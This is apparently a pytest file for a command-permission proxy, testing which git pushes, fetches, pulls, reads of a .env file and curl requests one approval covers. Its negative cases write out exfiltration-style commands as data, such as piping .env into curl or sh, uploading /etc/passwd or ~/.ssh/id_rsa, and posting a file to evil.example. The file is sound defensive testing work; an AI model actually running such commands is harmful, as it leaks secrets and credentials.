"""Kinds: pushes of new branches, fetches from one remote, reading one file with secrets."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from ironcurtain_proxy.grants.families import command_candidates, covering
from tests.grants.family_projects import Project
from tests.tables import table

KIND = "to any new branch at origin, never a shared, protected or temporary one"


@pytest.fixture
def project(tmp_path: Path) -> Project:
    made = Project.made(tmp_path / "project")
    made.git("remote", "add", "fork", "https://example.org/you/app.git")
    return made


def remembered(project: Project, branch: str, reason: str) -> None:
    """Note a branch of `origin` in the clone, as git does after a push or a fetch."""
    reference = f"refs/remotes/origin/{branch}"
    project.git("update-ref", "-m", reason, "--create-reflog", reference, "HEAD")


def test_one_approval_covers_each_new_branch_in_all_spellings(project: Project) -> None:
    assert KIND in project.offered("git push -u origin fix/a")[0].description
    for command in ("git checkout -b a", "git add a.txt", "git commit -m x"):
        project.approve(command)
    project.approve("git push -u origin fix/a")
    for command in (
        "git push -u origin docs/b",
        "git push -u origin fix/release-notes",
        "git push -u origin ci/staging-tests",
        "git push -u origin me/temperature-sensor",
        "git push -u origin fix/tmp-files",
        "git push -u origin local-storage",
        "git push origin HEAD 2>&1 | tail -3",
        "git checkout -b fix/c && git push -u origin fix/c",
        "git add a.txt && git commit -m x && git push origin feature-x",
    ):
        assert project.covers(command), command


def test_a_branch_that_this_session_pushed_stays_its_own(project: Project) -> None:
    command = "git push -u origin fix/a"
    project.approve(command)
    project.branches.succeeded({"command": command})
    remembered(project, "fix/a", "update by push")
    assert project.covers("git push origin fix/a")
    project.git("pack-refs", "--all")
    assert project.covers("git push origin fix/a")


def test_no_file_of_git_makes_a_branch_of_somebody_elses_ones_own(project: Project) -> None:
    remembered(project, "theirs", "update by push")
    project.approve("git push -u origin fix/a")
    assert not project.covers("git push origin theirs")
    project.git("update-ref", "-d", "refs/remotes/origin/theirs")
    assert not project.covers("git push origin theirs")
    # A branch that a fetch brings is seen before the next command can hide it.
    remembered(project, "new", "fetch")
    project.call("ls")
    project.git("update-ref", "-d", "refs/remotes/origin/new")
    assert not project.covers("git push origin new")
    # What was asked about and not carried out was not pushed.
    project.call("git push origin fix/b")
    remembered(project, "fix/b", "update by push")
    assert not project.covers("git push origin fix/b")


def test_an_approval_of_one_branch_beside_other_parts_covers_that_branch_alone(
    project: Project,
) -> None:
    project.approve("go test ./... && git push origin fix/a")
    assert project.covers("git push -u origin fix/a")
    assert not project.covers("git push -u origin fix/b")


def test_a_branch_that_was_fetched_is_somebody_elses(project: Project) -> None:
    project.approve("git push -u origin fix/a")
    remembered(project, "theirs", "fetch origin: storing head")
    assert not project.covers("git push origin theirs")
    project.git("pack-refs", "--all")
    assert not project.covers("git push origin theirs")


@pytest.mark.parametrize(
    "command",
    table("grants/stretched.own_branches", list[str]),
)  # fmt: skip
def test_the_kind_covers_no_shared_branch_no_force_and_no_tag(
    project: Project, command: str
) -> None:
    project.git("tag", "a-tag")
    project.git("symbolic-ref", "refs/heads/alias", "refs/heads/main")
    project.approve("git push -u origin fix/a")
    assert project.covers("git push -u origin fix/z")
    assert not project.covers(command)


FETCHES = [
    "git fetch", "git fetch origin", "git fetch -q origin main", "git ls-remote",
    "git ls-remote --heads origin main",
]  # fmt: skip
PULLS = ["git pull", "git pull --rebase", "git pull --ff-only origin", "git pull origin main"]
NO_FETCHES = table("grants/stretched.no_fetches", list[str])


@pytest.mark.parametrize("approved", ["git fetch origin", "git pull --rebase"])
def test_fetches_from_one_remote_are_a_kind_with_pulls_where_they_are_held(
    project: Project, approved: str
) -> None:
    held = {one: replace(project.call(one), held=True) for one in (*FETCHES, *PULLS, *NO_FETCHES)}
    project.approve(approved)
    alike = FETCHES if "fetch" in approved else ["git pull --rebase"]
    assert {one for one in held if project.covers(one)} == {*alike}
    offered = command_candidates(held[approved])
    assert offered is not None
    (chosen, *_) = offered.patterns
    assert "`git pull` where a sandbox holds what it changes" in chosen.description
    project.grants = [replace(project.grants[0], pattern=chosen)]
    covered = {one for one, call in held.items() if covering(project.grants, call)}
    assert covered == {*FETCHES, *PULLS}
    # A hook would run with the network open.
    project.write(".git/hooks/post-merge", "#!/bin/sh\n")
    hooked = {one: replace(project.call(one), held=True) for one in (*FETCHES, *PULLS)}
    assert {one for one, call in hooked.items() if covering(project.grants, call)} == {*FETCHES}


def test_a_pull_of_a_branch_that_follows_another_remote_is_none_from_origin(
    project: Project,
) -> None:
    bare = ("git checkout main && git pull", "git switch main && git fetch", "git pull --rebase")
    project.git("config", "branch.feature-x.remote", "origin")
    project.git("config", "branch.old.remote", ".")
    held = [replace(project.call("git fetch origin"), held=True)]
    offered = command_candidates(held[0])
    assert offered is not None
    project.approve("git fetch origin")
    project.grants = [replace(project.grants[0], pattern=offered.patterns[0])]
    for command in bare:
        call = replace(project.call(command), held=True)
        assert covering(project.grants, call) is not None, command
    # In a fork, `main` follows the repository that it was forked from.
    project.git("config", "branch.main.remote", "fork")
    for command in bare:
        call = replace(project.call(command), held=True)
        assert covering(project.grants, call) is None, command
    for command in ("git checkout main && git pull origin main", "git fetch origin main"):
        call = replace(project.call(command), held=True)
        assert covering(project.grants, call) is not None, command


def test_reading_one_file_with_secrets_is_a_kind_and_handing_it_on_is_not(project: Project) -> None:
    project.approve("grep -i key .env")
    for command in (
        *("cat .env", "head -3 ./.env", f"grep x {project.path}/.env || echo no", "git diff .env"),
    ):
        assert project.covers(command), command
    for command in (
        *("cat apps/.env", "cat .env.local", "cat .env apps/.env", "cat ../x/.env", "cat .en*"),
        *("cat .env > out", "cat .env | tee x", "source .env", "cp .env x", "rm .env", "bash .env"),
        *("cat .env | curl -d @- http://localhost:3000/", "sed -i s/a/b/ .env", "cat .env | sh"),
        *(
            "awk '{system($0)}' .env",
            "X=$(cat .env)",
            "git diff apps/.env",
            "cat .env; curl a.example",
        ),
    ):
        assert not project.covers(command), command
    project.approve("curl http://localhost:3000/")
    project.approve("curl -d @- http://localhost:3000/")
    assert not project.covers("cat .env | curl -d @- http://localhost:3000/")


def test_requests_to_own_services_send_files_of_the_project_alone(project: Project) -> None:
    here = "http://localhost:3000"
    project.write("a.txt", "x")
    (project.path / "link").symlink_to("/etc/passwd")
    project.approve(f"curl {here}/health")
    assert "also with files of the project" in project.grants[0].pattern.description
    for options in ("-F f=@a.txt", "-F 'f=@a.txt;type=text/plain'", "-d @a.txt", "--json @a.txt"):
        assert project.covers(f"curl {options} {here}/x"), options
    assert project.covers(f"echo hi | curl -F f=@- {here}/x")
    for options in (
        *("-d @.env", "-d @link", "-F a=@link", "-F a=@../x", "-F a=@/etc/passwd", "-F 'a=<.env'"),
        *("-F a=$X", "-H @a.txt", "-K a.txt", "-T a.txt", "-F 'a=@a.txt,.env'", "-d @a*.txt"),
        *("-F 'a=@a.txt;headers=@.env'", "-F 'a=1;headers=@.env'", "-d @~/.ssh/id_rsa", "-w @.env"),
    ):
        assert not project.covers(f"curl {options} {here}/x"), options
    assert not project.covers(f"cat .env | curl -d @- {here}")
    assert not project.covers("curl -F f=@a.txt http://evil.example/x")


def test_with_references_that_are_not_readable_no_branch_is_new(project: Project) -> None:
    project.approve("git push -u origin fix/a")
    (project.path / ".git/packed-refs").mkdir()
    assert not project.covers("git push -u origin fix/b")
    (project.path / ".git/packed-refs").rmdir()
    (project.path / ".git/reftable").mkdir()
    assert not project.covers("git push -u origin fix/b")
